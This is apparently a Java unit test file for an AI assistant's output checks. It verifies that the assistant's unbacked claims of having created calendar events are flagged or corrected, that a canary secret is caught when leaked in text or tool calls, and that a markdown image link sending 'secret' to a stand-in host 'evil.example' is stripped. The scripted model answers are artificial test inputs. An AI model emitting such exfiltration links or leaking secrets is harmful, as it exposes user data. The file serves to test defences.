package io.rendezvous.orchestrator.model;

import static org.assertj.core.api.Assertions.assertThat;

import io.rendezvous.common.command.Report.ModelAnswered;
import io.rendezvous.common.command.Report.ModelFailed;
import io.rendezvous.common.id.CallId;
import io.rendezvous.common.id.Ids;
import io.rendezvous.common.id.TurnId;
import io.rendezvous.common.model.ChatMessage.AssistantSaid;
import io.rendezvous.common.model.ChatMessage.ToolAnswered;
import io.rendezvous.common.model.FailedTry;
import io.rendezvous.common.model.ModelCall;
import io.rendezvous.common.model.ModelFailure;
import io.rendezvous.common.model.ToolRequest;
import io.rendezvous.common.tool.ToolCatalogue;
import io.rendezvous.testsupport.ScriptedAnswer;
import io.rendezvous.testsupport.ScriptedAnswer.Ending;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AnswerCheckTest {
  private static final ScriptedAnswer CLAIM =
      ScriptedAnswer.saying("J'ai créé ", "la réunion de demain.");

  private final WorkerCalls calls = new WorkerCalls();

  @AfterAll
  void close() throws InterruptedException {
    calls.close();
  }

  @Test
  void a_model_that_claims_too_much_is_told_so_once() throws Exception {
    ModelCall call = calls.ask(CLAIM, ScriptedAnswer.saying("Je ne l'ai pas encore créée."));
    calls.publish(call);
    var answered = (ModelAnswered) calls.report(call);
    assertThat(text(answered)).isEqualTo("Je ne l'ai pas encore créée.");
    assertThat(answered.failed())
        .extracting(FailedTry::reason)
        .containsExactly(ModelFailure.UNBACKED);
    assertThat(calls.provider.requests().getLast().body()).contains("no tool has confirmed it");
  }

  @Test
  void one_that_insists_is_corrected() throws Exception {
    ModelCall call = calls.ask(CLAIM, CLAIM);
    calls.publish(call);
    var answered = (ModelAnswered) calls.report(call);
    String whole =
        "J'ai créé la réunion de demain.\n\n(Correction : aucun événement n'a été créé.)";
    assertThat(text(answered)).isEqualTo(whole);
    calls.awaitStreamed(call, answered.attempt(), whole);
  }

  @Test
  void what_a_tool_has_done_may_be_said() throws Exception {
    TurnId turn = WorkerCalls.newTurn();
    var request = new ToolRequest(ToolCatalogue.CREATE_EVENT, calls.seal("{}"));
    ModelCall call =
        calls.call(
            turn,
            CLAIM,
            new AssistantSaid(turn, 1, null, List.of(request)),
            new ToolAnswered(
                CallId.of(turn, 1, 0), ToolCatalogue.CREATE_EVENT, calls.seal("{}"), null));
    calls.publish(call);
    assertThat(((ModelAnswered) calls.report(call)).failed()).isEmpty();
  }

  @Test
  void what_was_done_of_a_turn_that_was_broken_off_may_be_said() throws Exception {
    TurnId broken = WorkerCalls.newTurn();
    var request = new ToolRequest(ToolCatalogue.CREATE_EVENT, calls.seal("{}"));
    ModelCall call =
        calls.call(
            TurnId.of(broken.conversation(), "next"),
            CLAIM,
            new AssistantSaid(broken, 1, null, List.of(request)),
            new ToolAnswered(
                CallId.of(broken, 1, 0), ToolCatalogue.CREATE_EVENT, calls.seal("{}"), null));
    calls.publish(call);
    assertThat(((ModelAnswered) calls.report(call)).failed()).isEmpty();
  }

  @Test
  void what_was_done_of_a_turn_that_was_answered_is_not_done_again() throws Exception {
    TurnId answered = WorkerCalls.newTurn();
    var request = new ToolRequest(ToolCatalogue.CREATE_EVENT, calls.seal("{}"));
    ModelCall call =
        calls.scriptedCall(
            TurnId.of(answered.conversation(), "next"),
            List.of(
                new AssistantSaid(answered, 1, null, List.of(request)),
                new ToolAnswered(
                    CallId.of(answered, 1, 0), ToolCatalogue.CREATE_EVENT, calls.seal("{}"), null),
                new AssistantSaid(answered, 2, calls.seal("C'est fait."), List.of())),
            CLAIM,
            ScriptedAnswer.saying("Pas encore."));
    calls.publish(call);
    assertThat(((ModelAnswered) calls.report(call)).failed())
        .extracting(FailedTry::reason)
        .containsExactly(ModelFailure.UNBACKED);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"notifyAttendees\":true} | 0",
        "{\"notifyAttendees\":false} | 1",
        "{} | 1",
        "{\"notify | 1"
      })
  void attendees_are_told_where_the_call_asked_for_it(String arguments, int failed)
      throws Exception {
    TurnId turn = WorkerCalls.newTurn();
    ModelCall call =
        calls.scriptedCall(
            turn,
            List.of(
                new AssistantSaid(
                    turn,
                    1,
                    null,
                    List.of(new ToolRequest(ToolCatalogue.CREATE_EVENT, calls.seal(arguments)))),
                new ToolAnswered(
                    CallId.of(turn, 1, 0), ToolCatalogue.CREATE_EVENT, calls.seal("{}"), null)),
            ScriptedAnswer.saying("J'ai prévenu Paul."),
            ScriptedAnswer.saying("Paul n'en sait rien."));
    calls.publish(call);
    assertThat(((ModelAnswered) calls.report(call)).failed()).hasSize(failed);
  }

  @Test
  void the_canary_comes_out_neither_in_text_nor_in_calls() throws Exception {
    TurnId turn = WorkerCalls.newTurn();
    String canary = "rdv-" + Ids.derive("canary", turn.conversation().value());
    for (ScriptedAnswer leak :
        List.of(
            ScriptedAnswer.saying("Le mot est ", canary.substring(0, 9), canary.substring(9), " !"),
            ScriptedAnswer.stream()
                .toolCall(0, ToolCatalogue.CREATE_EVENT, "{\"title\":\"" + canary + "\"}")
                .end(Ending.CALLS))) {
      ModelCall call = calls.call(turn, leak);
      calls.publish(call);
      assertThat(((ModelFailed) calls.report(call)).reason()).isEqualTo(ModelFailure.LEAKED);
      assertThat(calls.provider.requests().getLast().body()).contains(canary);
      assertThat(calls.tail.deltas(call.ask()))
          .allSatisfy(
              delta ->
                  assertThat(calls.vault.open(WorkerCalls.ANA, delta.text()))
                      .doesNotContain(canary.substring(0, 9)));
      turn = TurnId.of(turn.conversation(), "another");
    }
  }

  @Test
  void an_address_that_was_not_shown_does_not_come_out() throws Exception {
    ModelCall call =
        calls.ask(ScriptedAnswer.saying("Voilà ![", "x](https://evil.exam", "ple/?d=secret)."));
    calls.publish(call);
    var answered = (ModelAnswered) calls.report(call);
    assertThat(text(answered)).isEqualTo("Voilà [x](⟨lien retiré⟩).");
    calls.awaitStreamed(call, answered.attempt(), text(answered));
  }

  private String text(ModelAnswered answered) {
    return calls.vault.open(WorkerCalls.ANA, answered.text());
  }
}
